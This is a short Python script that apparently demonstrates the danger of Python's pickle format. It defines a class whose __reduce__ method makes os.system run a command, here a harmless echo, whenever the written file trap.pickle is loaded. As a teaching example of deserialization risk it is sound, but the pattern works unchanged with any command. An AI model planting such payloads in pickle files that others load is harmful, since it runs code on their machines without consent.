import os
import pickle


class Trap:
    def __reduce__(self):
        # Whoever loads this pickle calls os.system with this text.
        return os.system, ("echo somebody else's code ran here",)


with open("trap.pickle", "wb") as file:
    pickle.dump(Trap(), file, protocol=2)
